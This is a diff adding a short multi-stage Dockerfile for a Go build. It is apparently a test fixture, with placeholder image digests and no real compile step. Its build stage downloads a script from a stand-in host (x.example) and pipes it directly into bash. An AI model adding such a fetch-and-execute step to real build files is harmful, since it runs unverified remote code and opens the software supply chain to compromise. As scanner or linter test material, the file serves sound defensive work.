@@ -1,0 +1,12 @@
+# syntax=docker/dockerfile:1
+ARG GO=1.22
+FROM golang:${GO}@sha256:0000000000000000000000000000000000000000000000000000000000000001 AS build
+RUN <<EOF
+set -e
+curl -fsSL https://x.example/i.sh | bash
+EOF
+FROM build AS test
+RUN go test ./...
+FROM alpine:3.22@sha256:0000000000000000000000000000000000000000000000000000000000000001
+COPY --from=build /out/app /app
+USER 10001
